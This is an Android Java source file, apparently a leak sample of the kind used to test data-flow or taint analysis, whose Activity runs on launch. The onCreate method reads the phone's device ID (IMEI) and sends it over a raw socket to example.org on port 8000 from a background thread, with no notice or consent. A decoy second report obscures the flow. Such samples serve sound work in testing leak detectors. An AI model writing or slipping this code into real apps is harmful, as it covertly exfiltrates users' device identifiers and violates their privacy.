package org.consentry.flow.fields.constructor;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import android.util.Log;
import java.io.IOException;
import java.net.Socket;

public class Main extends Activity {
    static class Report {
        final String text;

        private Report(String text) {
            this.text = text;
        }

        static Report of(String text) {
            return new Report(text);
        }

        void post() {
            try (Socket socket = new Socket("example.org", 8000)) {
                socket.getOutputStream().write(text.getBytes());
            } catch (IOException error) {
                Log.w("flow", "not sent");
            }
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        Report first = Report.of(phone.getDeviceId());
        Report second = Report.of("none");
        Report chosen = first;
        new Thread(() -> chosen.post()).start();
        Log.i("size", second.text.length() > 9 ? "long" : "short");
    }
}
